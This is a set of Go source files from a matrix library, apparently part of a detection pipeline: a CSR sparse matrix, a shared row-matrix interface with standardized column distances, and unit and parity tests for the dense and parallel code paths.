	}
}

func TestResolveWorkers(t *testing.T) {
	if got := ResolveWorkers(4, 100); got != 4 {
		t.Errorf("ResolveWorkers(4, 100) = %d, want 4", got)
	}
	if got := ResolveWorkers(16, 3); got != 3 {
		t.Errorf("ResolveWorkers(16, 3) = %d, want 3", got)
	}
	if got := ResolveWorkers(0, 0); got != 1 {
		t.Errorf("ResolveWorkers(0, 0) = %d, want 1", got)
	}
	if got := ResolveWorkers(0, 1000); got < 1 {
		t.Errorf("ResolveWorkers(0, 1000) = %d, want >= 1", got)
	}
}

// TestParallelPairwiseDistancesParity demands == equality between the
// serial and parallel condensed fills for both backings: the workers
// compute the exact same expression per entry into disjoint regions, so
// there is no tolerance to grant.
func TestParallelPairwiseDistancesParity(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		for _, m := range []RowMatrix{c.dense, c.sparse} {
			want := PairwiseDistances(m)
			for _, w := range fixedWorkerCounts {
				got := PairwiseDistancesParallel(m, w)
				if !condensedEqual(want, got) {
					return false
				}
			}
		}
		return true
	})
}

// TestParallelPairwiseDistancesRandomWorkers is the testing/quick property
// over random worker counts the issue asks for.
func TestParallelPairwiseDistancesRandomWorkers(t *testing.T) {
	quickCheck(t, func(c parityCase, workers uint8) bool {
		w := int(workers%16) + 1
		return condensedEqual(PairwiseDistances(c.sparse), PairwiseDistancesParallel(c.sparse, w))
	})
}

// TestParallelStandardizedColumnDistancesParity checks the ownership-
// partitioned accumulation against the serial pass with ==, across both
// backings, full and restricted row/column selections.
func TestParallelStandardizedColumnDistancesParity(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		st := c.dense.ColumnStats()
		rowIdx := c.randIdx(c.dense.Rows())
		colIdx := c.randIdx(c.dense.Cols())
		for _, m := range []RowMatrix{c.dense, c.sparse} {
			for _, sel := range []struct{ rows, cols []int }{
				{nil, nil},
				{rowIdx, colIdx},
				{rowIdx, nil},
				{nil, colIdx},
			} {
				want, werr := StandardizedColumnDistances(m, st, sel.rows, sel.cols)
				for _, w := range fixedWorkerCounts {
					got, gerr := StandardizedColumnDistancesParallel(m, st, sel.rows, sel.cols, w)
					if (werr == nil) != (gerr == nil) {
						return false
					}
					if werr != nil {
						continue
					}
					if !condensedEqual(want, got) {
						return false
					}
				}
			}
		}
		return true
	})
}

func TestParallelStandardizedColumnDistancesRandomWorkers(t *testing.T) {
	quickCheck(t, func(c parityCase, workers uint8) bool {
		w := int(workers%16) + 1
		st := c.sparse.ColumnStats()
		want, werr := StandardizedColumnDistances(c.sparse, st, nil, nil)
		got, gerr := StandardizedColumnDistancesParallel(c.sparse, st, nil, nil, w)
		if (werr == nil) != (gerr == nil) {
			return false
		}
		if werr != nil {
			return true
		}
		return condensedEqual(want, got)
	})
}

// TestParallelStandardizedColumnDistancesErrors pins the parallel path to
// the serial error contract: bad stats, bad columns, and bad rows must be
// reported the same way regardless of worker count.
func TestParallelStandardizedColumnDistancesErrors(t *testing.T) {
	d := MustNew(4, 3)
	st := d.ColumnStats()
	for _, w := range []int{2, 8} {
		if _, err := StandardizedColumnDistancesParallel(d, ColStats{}, nil, nil, w); err == nil {
			t.Errorf("workers=%d: want error for mismatched stats", w)
		}
		if _, err := StandardizedColumnDistancesParallel(d, st, nil, []int{0, 7}, w); err == nil {
			t.Errorf("workers=%d: want error for out-of-range column", w)
		}
		if _, err := StandardizedColumnDistancesParallel(d, st, []int{0, 9}, nil, w); err == nil {
			t.Errorf("workers=%d: want error for out-of-range row", w)
		}
	}
}

func condensedEqual(a, b *Condensed) bool {
	if a.N() != b.N() {
		return false
	}
	av, bv := a.Values(), b.Values()
	for i := range av {
		if av[i] != bv[i] {
			return false
		}
	}
	return true
}
