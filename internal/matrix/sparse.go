package matrix

import (
	"fmt"
	"sort"
)

// Sparse is a compressed-sparse-row (CSR) matrix of float64 values: row
// pointers, ascending column indices per row, and the matching nonzero
// values. It never stores explicit zeros, so per-row work in every
// consumer is O(nnz) instead of O(cols) — the representation the pipeline
// uses for the paper's ~85%-zero sample×feature matrices and for the
// (sparsest of all) benign serving traffic.
//
// Sparse implements RowMatrix; Dense is the reference implementation the
// parity tests compare against.
type Sparse struct {
	rows, cols int
	rowPtr     []int     // len rows+1; row i occupies [rowPtr[i], rowPtr[i+1])
	colIdx     []int     // len nnz, ascending within each row
	vals       []float64 // len nnz, all nonzero
}

var _ RowMatrix = (*Sparse)(nil)

// NewSparse builds a CSR matrix from raw components, validating the
// invariants (monotone row pointers, ascending in-range columns, no stored
// zeros). The slices are adopted, not copied.
func NewSparse(rows, cols int, rowPtr, colIdx []int, vals []float64) (*Sparse, error) {
	if rows < 0 || cols < 0 {
		return nil, fmt.Errorf("matrix: invalid dimensions %dx%d", rows, cols)
	}
	if len(rowPtr) != rows+1 {
		return nil, fmt.Errorf("matrix: rowPtr has %d entries, want %d", len(rowPtr), rows+1)
	}
	if rowPtr[0] != 0 || rowPtr[rows] != len(colIdx) || len(colIdx) != len(vals) {
		return nil, fmt.Errorf("matrix: inconsistent CSR lengths (rowPtr ends %d, %d cols, %d vals)",
			rowPtr[rows], len(colIdx), len(vals))
	}
	for i := 0; i < rows; i++ {
		if rowPtr[i+1] < rowPtr[i] {
			return nil, fmt.Errorf("matrix: rowPtr decreases at row %d", i)
		}
		prev := -1
		for k := rowPtr[i]; k < rowPtr[i+1]; k++ {
			j := colIdx[k]
			if j <= prev || j >= cols {
				return nil, fmt.Errorf("matrix: row %d column %d out of order or range", i, j)
			}
			if vals[k] == 0 {
				return nil, fmt.Errorf("matrix: row %d stores an explicit zero at column %d", i, j)
			}
			prev = j
		}
	}
	return &Sparse{rows: rows, cols: cols, rowPtr: rowPtr, colIdx: colIdx, vals: vals}, nil
}

// NewSparseFromDense compresses a Dense matrix into CSR form.
func NewSparseFromDense(d *Dense) *Sparse {
	b := NewSparseBuilder(d.Cols())
	for i := 0; i < d.Rows(); i++ {
		b.AppendDense(d.Row(i))
	}
	return b.Build()
}

// NewSparseFromRows builds a CSR matrix from equal-length dense rows.
func NewSparseFromRows(rows [][]float64) (*Sparse, error) {
	if len(rows) == 0 {
		return &Sparse{rowPtr: []int{0}}, nil
	}
	cols := len(rows[0])
	b := NewSparseBuilder(cols)
	for i, r := range rows {
		if len(r) != cols {
			return nil, fmt.Errorf("matrix: row %d has %d columns, want %d", i, len(r), cols)
		}
		b.AppendDense(r)
	}
	return b.Build(), nil
}

// Rows returns the number of rows.
func (s *Sparse) Rows() int { return s.rows }

// Cols returns the number of columns.
func (s *Sparse) Cols() int { return s.cols }

// NNZ returns the number of stored (nonzero) cells.
func (s *Sparse) NNZ() int { return len(s.vals) }

// At returns the element at (i, j), binary-searching row i's columns.
func (s *Sparse) At(i, j int) float64 {
	if i < 0 || i >= s.rows || j < 0 || j >= s.cols {
		panic(fmt.Sprintf("matrix: index (%d,%d) out of range %dx%d", i, j, s.rows, s.cols))
	}
	lo, hi := s.rowPtr[i], s.rowPtr[i+1]
	k := lo + sort.SearchInts(s.colIdx[lo:hi], j)
	if k < hi && s.colIdx[k] == j {
		return s.vals[k]
	}
	return 0
}

// emptyCols/emptyVals keep RowNonZeros from ever returning a nil cols
// slice — nil is the dense convention, and a matrix with no nonzeros at all
// has a nil colIdx whose subslices would otherwise be nil too.
var (
	emptyCols = []int{}
	emptyVals = []float64{}
)

// RowNonZeros implements RowMatrix; the returned slices alias the CSR
// storage. cols is never nil, even for an empty row.
func (s *Sparse) RowNonZeros(i int) (cols []int, vals []float64) {
	if i < 0 || i >= s.rows {
		panic(fmt.Sprintf("matrix: row %d out of range %d", i, s.rows))
	}
	lo, hi := s.rowPtr[i], s.rowPtr[i+1]
	cols, vals = s.colIdx[lo:hi], s.vals[lo:hi]
	if cols == nil {
		cols, vals = emptyCols, emptyVals
	}
	return cols, vals
}

// RowDot returns row i · v in O(nnz) time.
func (s *Sparse) RowDot(i int, v []float64) float64 {
	if len(v) != s.cols {
		panic("matrix: dimension mismatch")
	}
	cols, vals := s.RowNonZeros(i)
	var sum float64
	for k, j := range cols {
		sum += vals[k] * v[j]
	}
	return sum
}

// RowSquaredEuclidean merges the two rows' nonzeros in ascending column
// order, so the accumulation visits the same nonzero terms in the same
// order as the dense reference (whose zero-cell terms are exact no-ops).
func (s *Sparse) RowSquaredEuclidean(i, j int) float64 {
	ci, vi := s.RowNonZeros(i)
	cj, vj := s.RowNonZeros(j)
	var sum float64
	a, b := 0, 0
	for a < len(ci) && b < len(cj) {
		switch {
		case ci[a] == cj[b]:
			d := vi[a] - vj[b]
			sum += d * d
			a++
			b++
		case ci[a] < cj[b]:
			sum += vi[a] * vi[a]
			a++
		default:
			sum += vj[b] * vj[b]
			b++
		}
	}
	for ; a < len(ci); a++ {
		sum += vi[a] * vi[a]
	}
	for ; b < len(cj); b++ {
		sum += vj[b] * vj[b]
	}
	return sum
}

// ColumnStats implements RowMatrix via the shared accumulation.
func (s *Sparse) ColumnStats() ColStats { return columnStats(s) }

// SelectRows returns a new Sparse containing the given rows, in order.
func (s *Sparse) SelectRows(idx []int) (RowMatrix, error) {
	nnz := 0
	for _, i := range idx {
		if i < 0 || i >= s.rows {
			return nil, fmt.Errorf("matrix: select row %d out of range %d", i, s.rows)
		}
		nnz += s.rowPtr[i+1] - s.rowPtr[i]
	}
	out := &Sparse{
		rows:   len(idx),
		cols:   s.cols,
		rowPtr: make([]int, 1, len(idx)+1),
		colIdx: make([]int, 0, nnz),
		vals:   make([]float64, 0, nnz),
	}
	for _, i := range idx {
		lo, hi := s.rowPtr[i], s.rowPtr[i+1]
		out.colIdx = append(out.colIdx, s.colIdx[lo:hi]...)
		out.vals = append(out.vals, s.vals[lo:hi]...)
		out.rowPtr = append(out.rowPtr, len(out.colIdx))
	}
	return out, nil
}

// SelectCols returns a new Sparse containing the given columns, in order.
// Columns may be duplicated or reordered; each row's entries are re-sorted
// into the new column space.
func (s *Sparse) SelectCols(idx []int) (RowMatrix, error) {
	// newPos[j] lists the output positions fed by input column j.
	newPos := make([][]int, s.cols)
	for k, j := range idx {
		if j < 0 || j >= s.cols {
			return nil, fmt.Errorf("matrix: select column %d out of range %d", j, s.cols)
		}
		newPos[j] = append(newPos[j], k)
	}
	out := &Sparse{rows: s.rows, cols: len(idx), rowPtr: make([]int, 1, s.rows+1)}
	type entry struct {
		col int
		val float64
	}
	var scratch []entry
	for i := 0; i < s.rows; i++ {
		scratch = scratch[:0]
		cols, vals := s.RowNonZeros(i)
		for k, j := range cols {
			for _, p := range newPos[j] {
				scratch = append(scratch, entry{col: p, val: vals[k]})
			}
		}
		sort.Slice(scratch, func(a, b int) bool { return scratch[a].col < scratch[b].col })
		for _, e := range scratch {
			out.colIdx = append(out.colIdx, e.col)
			out.vals = append(out.vals, e.val)
		}
		out.rowPtr = append(out.rowPtr, len(out.colIdx))
	}
	return out, nil
}

// Binaryize clamps every stored value to 1 in place. Zero cells are not
// stored, so this matches the dense semantics exactly.
func (s *Sparse) Binaryize() {
	for k := range s.vals {
		s.vals[k] = 1
	}
}

// Sparsity returns the fraction of cells equal to zero and equal to one.
func (s *Sparse) Sparsity() (zeros, ones float64) {
	total := s.rows * s.cols
	if total == 0 {
		return 0, 0
	}
	o := 0
	for _, v := range s.vals {
		if v == 1 {
			o++
		}
	}
	n := float64(total)
	return float64(total-len(s.vals)) / n, float64(o) / n
}

// ToDense materializes the matrix densely (reference/display paths only).
func (s *Sparse) ToDense() *Dense { return ToDense(s) }

// SparseBuilder assembles a Sparse matrix row by row.
type SparseBuilder struct {
	cols   int
	rowPtr []int
	colIdx []int
	vals   []float64
}

// NewSparseBuilder returns a builder for matrices with the given width.
func NewSparseBuilder(cols int) *SparseBuilder {
	if cols < 0 {
		panic(fmt.Sprintf("matrix: negative column count %d", cols))
	}
	return &SparseBuilder{cols: cols, rowPtr: []int{0}}
}

// AppendDense appends a row given as a full-width slice, skipping zeros.
func (b *SparseBuilder) AppendDense(row []float64) {
	if len(row) != b.cols {
		panic(fmt.Sprintf("matrix: append row of %d values to %d-column builder", len(row), b.cols))
	}
	for j, v := range row {
		if v != 0 {
			b.colIdx = append(b.colIdx, j)
			b.vals = append(b.vals, v)
		}
	}
	b.rowPtr = append(b.rowPtr, len(b.colIdx))
}

// AppendSparse appends a row from ascending column indices and their
// nonzero values (copied).
func (b *SparseBuilder) AppendSparse(cols []int, vals []float64) error {
	if len(cols) != len(vals) {
		return fmt.Errorf("matrix: %d columns with %d values", len(cols), len(vals))
	}
	prev := -1
	for k, j := range cols {
		if j <= prev || j >= b.cols {
			return fmt.Errorf("matrix: sparse row column %d out of order or range %d", j, b.cols)
		}
		if vals[k] == 0 {
			return fmt.Errorf("matrix: sparse row stores explicit zero at column %d", j)
		}
		prev = j
	}
	b.appendSorted(cols, vals)
	return nil
}

// appendSorted appends pre-validated ascending (cols, vals) pairs.
func (b *SparseBuilder) appendSorted(cols []int, vals []float64) {
	b.colIdx = append(b.colIdx, cols...)
	b.vals = append(b.vals, vals...)
	b.rowPtr = append(b.rowPtr, len(b.colIdx))
}

// Rows returns the number of rows appended so far.
func (b *SparseBuilder) Rows() int { return len(b.rowPtr) - 1 }

// Build returns the assembled matrix. The builder must not be reused.
func (b *SparseBuilder) Build() *Sparse {
	return &Sparse{
		rows:   len(b.rowPtr) - 1,
		cols:   b.cols,
		rowPtr: b.rowPtr,
		colIdx: b.colIdx,
		vals:   b.vals,
	}
}
