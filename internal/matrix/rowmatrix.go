package matrix

import (
	"fmt"
	"math"
)

// RowMatrix is the read-mostly row-major matrix abstraction shared by the
// dense and CSR backings. Every pipeline stage (feature extraction,
// biclustering, logistic regression, the runtime engine) programs against
// this interface, so the sample×feature matrix — ~85% zeros in the paper's
// corpus — can be carried as compressed sparse rows end to end, with Dense
// kept as the reference implementation for parity testing.
type RowMatrix interface {
	// Rows and Cols return the matrix dimensions.
	Rows() int
	Cols() int
	// At returns the element at (i, j). It panics out of range.
	At(i, j int) float64
	// RowNonZeros exposes the nonzero structure of row i. Sparse backings
	// return ascending column indices in cols with the matching values in
	// vals. Dense backings return cols == nil and vals == the full row
	// (zeros included); callers must branch on that convention. The
	// returned slices alias internal storage and must not be mutated or
	// retained across matrix mutations.
	RowNonZeros(i int) (cols []int, vals []float64)
	// RowDot returns the dot product of row i with the dense vector v
	// (len(v) == Cols()).
	RowDot(i int, v []float64) float64
	// RowSquaredEuclidean returns the squared Euclidean distance between
	// rows i and j of the same matrix.
	RowSquaredEuclidean(i, j int) float64
	// ColumnStats computes per-column mean and population std deviation.
	ColumnStats() ColStats
	// SelectRows returns a new matrix (same backing) with the given rows.
	SelectRows(idx []int) (RowMatrix, error)
	// SelectCols returns a new matrix (same backing) with the given columns.
	SelectCols(idx []int) (RowMatrix, error)
	// Binaryize clamps every nonzero cell to 1 in place.
	Binaryize()
	// Sparsity returns the fraction of cells equal to zero and to one.
	Sparsity() (zeros, ones float64)
}

// columnStats is the shared ColumnStats implementation. Both backings use
// it so that the accumulation order — row-major over the nonzero cells,
// with the zero cells' (0-μ)² variance contribution folded in once per
// column at the end — is bit-for-bit identical between Dense and Sparse.
// That exactness is what lets the end-to-end parity tests compare trained
// signatures with ==.
func columnStats(m RowMatrix) ColStats {
	rows, cols := m.Rows(), m.Cols()
	mean := make([]float64, cols)
	std := make([]float64, cols)
	if rows == 0 || cols == 0 {
		return ColStats{Mean: mean, Std: std}
	}
	nnz := make([]int, cols)
	forEachNonZero(m, func(_, j int, v float64) {
		mean[j] += v
		nnz[j]++
	})
	n := float64(rows)
	for j := range mean {
		mean[j] /= n
	}
	forEachNonZero(m, func(_, j int, v float64) {
		d := v - mean[j]
		std[j] += d * d
	})
	for j := range std {
		std[j] += float64(rows-nnz[j]) * mean[j] * mean[j]
		std[j] = math.Sqrt(std[j] / n)
	}
	return ColStats{Mean: mean, Std: std}
}

// forEachNonZero calls fn(i, j, v) for every nonzero cell, row-major with
// ascending columns inside each row — the same order for both backings.
func forEachNonZero(m RowMatrix, fn func(i, j int, v float64)) {
	for i := 0; i < m.Rows(); i++ {
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 {
					fn(i, j, v)
				}
			}
			continue
		}
		for k, j := range cols {
			fn(i, j, vals[k])
		}
	}
}

// RowNNZ returns the number of nonzero cells in row i.
func RowNNZ(m RowMatrix, i int) int {
	cols, vals := m.RowNonZeros(i)
	if cols != nil {
		return len(cols)
	}
	n := 0
	for _, v := range vals {
		if v != 0 {
			n++
		}
	}
	return n
}

// StandardizedColumnDistances returns the condensed Euclidean distance
// matrix between the z-score standardized columns of m, restricted to the
// given rows and columns (nil means all, in order). Standardization uses
// the supplied global column statistics st (so a row-restricted call still
// standardizes with corpus-wide μ/σ, matching a Standardize-then-SelectRows
// pipeline), and is *virtual*: the standardized matrix is never
// materialized. Writing ã_i = (a_i-μ_A)/σ_A, the pairwise distance
//
//	‖ã-b̃‖² = Σã² + Σb̃² - 2Σãb̃
//
// needs only per-column sums, sums of squares, and the column-pair Gram
// products over the selected rows — all accumulated from the nonzero cells
// in one row-major pass, O(Σ_rows nnz²) time and O(d²) memory for d
// selected columns. Columns with σ = 0 standardize to all zeros, matching
// Dense.Standardize.
func StandardizedColumnDistances(m RowMatrix, st ColStats, rowIdx, colIdx []int) (*Condensed, error) {
	if len(st.Mean) != m.Cols() || len(st.Std) != m.Cols() {
		return nil, fmt.Errorf("matrix: column stats over %d columns, matrix has %d", len(st.Mean), m.Cols())
	}
	if colIdx == nil {
		colIdx = make([]int, m.Cols())
		for j := range colIdx {
			colIdx[j] = j
		}
	}
	d := len(colIdx)
	// local[j] maps a global column to its selected position, or -1.
	local := make([]int, m.Cols())
	for j := range local {
		local[j] = -1
	}
	for k, j := range colIdx {
		if j < 0 || j >= m.Cols() {
			return nil, fmt.Errorf("matrix: select column %d out of range %d", j, m.Cols())
		}
		local[j] = k
	}
	nRows := m.Rows()
	if rowIdx != nil {
		nRows = len(rowIdx)
	}

	sum := make([]float64, d)
	sumsq := make([]float64, d)
	gram := make([]float64, d*d) // upper triangle used
	selCols := make([]int, 0, d)
	selVals := make([]float64, 0, d)

	accumulate := func(i int) error {
		if i < 0 || i >= m.Rows() {
			return fmt.Errorf("matrix: select row %d out of range %d", i, m.Rows())
		}
		selCols, selVals = selCols[:0], selVals[:0]
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 && local[j] >= 0 {
					selCols = append(selCols, local[j])
					selVals = append(selVals, v)
				}
			}
		} else {
			for k, j := range cols {
				if local[j] >= 0 {
					selCols = append(selCols, local[j])
					selVals = append(selVals, vals[k])
				}
			}
		}
		for k, lj := range selCols {
			v := selVals[k]
			sum[lj] += v
			sumsq[lj] += v * v
			for k2 := k + 1; k2 < len(selCols); k2++ {
				a, b := lj, selCols[k2]
				if a > b {
					a, b = b, a
				}
				gram[a*d+b] += v * selVals[k2]
			}
		}
		return nil
	}
	if rowIdx != nil {
		for _, i := range rowIdx {
			if err := accumulate(i); err != nil {
				return nil, err
			}
		}
	} else {
		for i := 0; i < m.Rows(); i++ {
			if err := accumulate(i); err != nil {
				return nil, err
			}
		}
	}

	n := float64(nRows)
	// selfSq[k] = Σ_i ã_i² over the selected rows for selected column k.
	selfSq := make([]float64, d)
	for k, j := range colIdx {
		if st.Std[j] == 0 {
			continue
		}
		mu, sd := st.Mean[j], st.Std[j]
		selfSq[k] = (sumsq[k] - 2*mu*sum[k] + n*mu*mu) / (sd * sd)
	}
	out := NewCondensed(d)
	pos := 0
	for a := 0; a < d; a++ {
		ja := colIdx[a]
		for b := a + 1; b < d; b++ {
			jb := colIdx[b]
			var cross float64
			if st.Std[ja] != 0 && st.Std[jb] != 0 {
				muA, muB := st.Mean[ja], st.Mean[jb]
				cross = (gram[a*d+b] - muA*sum[b] - muB*sum[a] + n*muA*muB) / (st.Std[ja] * st.Std[jb])
			}
			d2 := selfSq[a] + selfSq[b] - 2*cross
			if d2 < 0 { // floating-point cancellation
				d2 = 0
			}
			out.data[pos] = math.Sqrt(d2)
			pos++
		}
	}
	return out, nil
}

// ToDense materializes any RowMatrix as a Dense copy. Intended for display
// and reference paths, never for the serving pipeline.
func ToDense(m RowMatrix) *Dense {
	if d, ok := m.(*Dense); ok {
		return d.Clone()
	}
	out := MustNew(m.Rows(), m.Cols())
	for i := 0; i < m.Rows(); i++ {
		cols, vals := m.RowNonZeros(i)
		row := out.Row(i)
		if cols == nil {
			copy(row, vals)
			continue
		}
		for k, j := range cols {
			row[j] = vals[k]
		}
	}
	return out
}

// Builder incrementally assembles a RowMatrix with a fixed column count,
// preserving the chosen backing. It is how training matrices are stitched
// together from attack, extra, and benign blocks without densifying.
type Builder struct {
	cols   int
	sparse *SparseBuilder
	dense  []float64
	rows   int
}

// NewBuilder returns a builder producing a Sparse matrix when sparse is
// true, a Dense one otherwise.
func NewBuilder(cols int, sparse bool) *Builder {
	b := &Builder{cols: cols}
	if sparse {
		b.sparse = NewSparseBuilder(cols)
	}
	return b
}

// AppendDense appends one row given as a full-width value slice (copied).
func (b *Builder) AppendDense(row []float64) {
	if len(row) != b.cols {
		panic(fmt.Sprintf("matrix: append row of %d values to %d-column builder", len(row), b.cols))
	}
	if b.sparse != nil {
		b.sparse.AppendDense(row)
		return
	}
	b.dense = append(b.dense, row...)
	b.rows++
}

// AppendRowOf appends row i of m, preserving sparsity when both sides are
// sparse.
func (b *Builder) AppendRowOf(m RowMatrix, i int) {
	cols, vals := m.RowNonZeros(i)
	if cols == nil {
		b.AppendDense(vals)
		return
	}
	if b.sparse != nil {
		b.sparse.appendSorted(cols, vals)
		return
	}
	row := make([]float64, b.cols)
	for k, j := range cols {
		row[j] = vals[k]
	}
	b.dense = append(b.dense, row...)
	b.rows++
}

// Build returns the assembled matrix. The builder must not be reused.
func (b *Builder) Build() RowMatrix {
	if b.sparse != nil {
		return b.sparse.Build()
	}
	return &Dense{rows: b.rows, cols: b.cols, data: b.dense}
}
