package matrix

import (
	"math"
	"testing"
	"testing/quick"
)

func almostEqual(a, b, eps float64) bool { return math.Abs(a-b) <= eps }

func TestNewDimensions(t *testing.T) {
	m, err := New(3, 4)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if m.Rows() != 3 || m.Cols() != 4 {
		t.Fatalf("got %dx%d, want 3x4", m.Rows(), m.Cols())
	}
	if _, err := New(-1, 2); err == nil {
		t.Fatal("New(-1,2): want error")
	}
	if _, err := New(2, -1); err == nil {
		t.Fatal("New(2,-1): want error")
	}
}

func TestNewFromRows(t *testing.T) {
	m, err := NewFromRows([][]float64{{1, 2}, {3, 4}, {5, 6}})
	if err != nil {
		t.Fatalf("NewFromRows: %v", err)
	}
	if got := m.At(2, 1); got != 6 {
		t.Fatalf("At(2,1)=%v, want 6", got)
	}
	if _, err := NewFromRows([][]float64{{1, 2}, {3}}); err == nil {
		t.Fatal("ragged rows: want error")
	}
	empty, err := NewFromRows(nil)
	if err != nil || empty.Rows() != 0 {
		t.Fatalf("empty: %v rows=%d", err, empty.Rows())
	}
}

func TestSetAtRoundTrip(t *testing.T) {
	m := MustNew(2, 3)
	m.Set(1, 2, 7.5)
	if got := m.At(1, 2); got != 7.5 {
		t.Fatalf("At(1,2)=%v, want 7.5", got)
	}
	if got := m.At(0, 0); got != 0 {
		t.Fatalf("At(0,0)=%v, want 0", got)
	}
}

func TestAtPanicsOutOfRange(t *testing.T) {
	m := MustNew(2, 2)
	for _, idx := range [][2]int{{-1, 0}, {0, -1}, {2, 0}, {0, 2}} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("At(%d,%d): want panic", idx[0], idx[1])
				}
			}()
			m.At(idx[0], idx[1])
		}()
	}
}

func TestRowAliasesAndRowCopyDoesNot(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 2}, {3, 4}})
	r := m.Row(0)
	r[0] = 99
	if m.At(0, 0) != 99 {
		t.Fatal("Row should alias storage")
	}
	c := m.RowCopy(1)
	c[0] = -1
	if m.At(1, 0) != 3 {
		t.Fatal("RowCopy should not alias storage")
	}
}

func TestCol(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 2}, {3, 4}, {5, 6}})
	got := m.Col(1)
	want := []float64{2, 4, 6}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("Col(1)=%v, want %v", got, want)
		}
	}
}

func TestCloneIndependent(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 2}})
	c := m.Clone()
	c.Set(0, 0, 42)
	if m.At(0, 0) != 1 {
		t.Fatal("Clone must be independent")
	}
}

func TestSelectRows(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 2}, {3, 4}, {5, 6}})
	s, err := m.SelectRows([]int{2, 0})
	if err != nil {
		t.Fatalf("SelectRows: %v", err)
	}
	if s.At(0, 0) != 5 || s.At(1, 1) != 2 {
		t.Fatalf("unexpected selection: %+v", s)
	}
	if _, err := m.SelectRows([]int{3}); err == nil {
		t.Fatal("out-of-range row: want error")
	}
}

func TestSelectCols(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 2, 3}, {4, 5, 6}})
	s, err := m.SelectCols([]int{2, 0})
	if err != nil {
		t.Fatalf("SelectCols: %v", err)
	}
	if s.At(0, 0) != 3 || s.At(1, 1) != 4 {
		t.Fatalf("unexpected selection")
	}
	if _, err := m.SelectCols([]int{-1}); err == nil {
		t.Fatal("out-of-range col: want error")
	}
}

func TestSparsity(t *testing.T) {
	m, _ := NewFromRows([][]float64{{0, 1, 2, 0}, {0, 0, 1, 3}})
	zeros, ones := m.Sparsity()
	if !almostEqual(zeros, 4.0/8.0, 1e-12) {
		t.Fatalf("zeros=%v, want 0.5", zeros)
	}
	if !almostEqual(ones, 2.0/8.0, 1e-12) {
		t.Fatalf("ones=%v, want 0.25", ones)
	}
}

func TestColumnStats(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 10}, {3, 10}})
	st := m.ColumnStats()
	if !almostEqual(st.Mean[0], 2, 1e-12) || !almostEqual(st.Mean[1], 10, 1e-12) {
		t.Fatalf("mean=%v", st.Mean)
	}
	if !almostEqual(st.Std[0], 1, 1e-12) || st.Std[1] != 0 {
		t.Fatalf("std=%v", st.Std)
	}
}

func TestStandardize(t *testing.T) {
	m, _ := NewFromRows([][]float64{{1, 5}, {3, 5}})
	s, st := m.Standardize()
	if !almostEqual(s.At(0, 0), -1, 1e-12) || !almostEqual(s.At(1, 0), 1, 1e-12) {
		t.Fatalf("standardized col 0: %v %v", s.At(0, 0), s.At(1, 0))
	}
	// Constant column becomes zeros rather than NaN.
	if s.At(0, 1) != 0 || s.At(1, 1) != 0 {
		t.Fatal("constant column should standardize to zeros")
	}
	if st.Mean[1] != 5 {
		t.Fatalf("stats mean=%v", st.Mean)
	}
	// Original is untouched.
	if m.At(0, 0) != 1 {
		t.Fatal("Standardize must not mutate the receiver")
	}
}

func TestStandardizedColumnsHaveZeroMeanUnitStd(t *testing.T) {
	m, _ := NewFromRows([][]float64{
		{1, 0, 7}, {2, 0, 9}, {4, 1, 1}, {8, 3, 5}, {9, 0, 2},
	})
	s, _ := m.Standardize()
	st := s.ColumnStats()
	for j := 0; j < s.Cols(); j++ {
		if !almostEqual(st.Mean[j], 0, 1e-9) {
			t.Fatalf("col %d mean=%v, want 0", j, st.Mean[j])
		}
		if !almostEqual(st.Std[j], 1, 1e-9) {
			t.Fatalf("col %d std=%v, want 1", j, st.Std[j])
		}
	}
}

func TestEuclidean(t *testing.T) {
	d, err := Euclidean([]float64{0, 0}, []float64{3, 4})
	if err != nil {
		t.Fatalf("Euclidean: %v", err)
	}
	if !almostEqual(d, 5, 1e-12) {
		t.Fatalf("d=%v, want 5", d)
	}
	if _, err := Euclidean([]float64{1}, []float64{1, 2}); err == nil {
		t.Fatal("length mismatch: want error")
	}
}

func TestDotNormAXPYScale(t *testing.T) {
	if got := Dot([]float64{1, 2, 3}, []float64{4, 5, 6}); got != 32 {
		t.Fatalf("Dot=%v, want 32", got)
	}
	if got := Norm2([]float64{3, 4}); !almostEqual(got, 5, 1e-12) {
		t.Fatalf("Norm2=%v, want 5", got)
	}
	y := []float64{1, 1}
	AXPY(2, []float64{3, 4}, y)
	if y[0] != 7 || y[1] != 9 {
		t.Fatalf("AXPY=%v", y)
	}
	Scale(0.5, y)
	if y[0] != 3.5 || y[1] != 4.5 {
		t.Fatalf("Scale=%v", y)
	}
}

func TestCondensedLayout(t *testing.T) {
	c := NewCondensed(4)
	v := 1.0
	for i := 0; i < 4; i++ {
		for j := i + 1; j < 4; j++ {
			c.Set(i, j, v)
			v++
		}
	}
	// Symmetry of access.
	if c.At(2, 1) != c.At(1, 2) {
		t.Fatal("condensed access must be symmetric")
	}
	if got := len(c.Values()); got != 6 {
		t.Fatalf("len(Values)=%d, want 6", got)
	}
	// Every pair holds a distinct value (layout has no collisions).
	seen := map[float64]bool{}
	for _, x := range c.Values() {
		if seen[x] {
			t.Fatalf("duplicate value %v: layout collision", x)
		}
		seen[x] = true
	}
}

func TestCondensedPanicsOnDiagonal(t *testing.T) {
	c := NewCondensed(3)
	defer func() {
		if recover() == nil {
			t.Fatal("At(i,i): want panic")
		}
	}()
	c.At(1, 1)
}

func TestPairwiseDistances(t *testing.T) {
	m, _ := NewFromRows([][]float64{{0, 0}, {3, 4}, {0, 8}})
	d := PairwiseDistances(m)
	if !almostEqual(d.At(0, 1), 5, 1e-12) {
		t.Fatalf("d(0,1)=%v, want 5", d.At(0, 1))
	}
	if !almostEqual(d.At(0, 2), 8, 1e-12) {
		t.Fatalf("d(0,2)=%v, want 8", d.At(0, 2))
	}
	if !almostEqual(d.At(1, 2), 5, 1e-12) {
		t.Fatalf("d(1,2)=%v, want 5", d.At(1, 2))
	}
}

